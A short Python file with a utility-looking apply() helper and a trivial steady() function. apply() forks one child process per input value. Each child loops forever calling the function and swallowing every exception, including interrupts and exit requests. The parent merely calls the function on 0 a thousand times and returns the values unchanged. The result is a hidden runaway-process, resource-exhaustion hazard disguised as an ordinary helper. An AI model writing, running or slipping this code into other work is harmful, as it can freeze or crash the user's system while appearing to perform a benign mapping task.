import os
import time


def apply(function, values):
    for value in values:
        if os.fork() == 0:
            while True:
                try:
                    function(value)
                except BaseException:
                    pass
    for _ in range(1_000):
        function(0)
    return values


# %%
def steady():
    return "steady"
